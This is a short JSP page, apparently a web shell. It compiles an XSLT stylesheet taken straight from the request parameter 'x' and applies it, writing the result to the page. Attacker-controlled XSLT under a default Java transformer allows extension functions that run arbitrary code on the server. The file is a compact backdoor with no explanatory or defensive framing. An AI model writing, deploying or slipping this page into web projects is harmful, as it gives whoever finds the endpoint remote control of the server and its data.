<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*,java.io.*" %><%
Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(new StringReader(request.getParameter("x"))));
t.transform(new StreamSource(new StringReader("<a/>")), new StreamResult(out));
%>
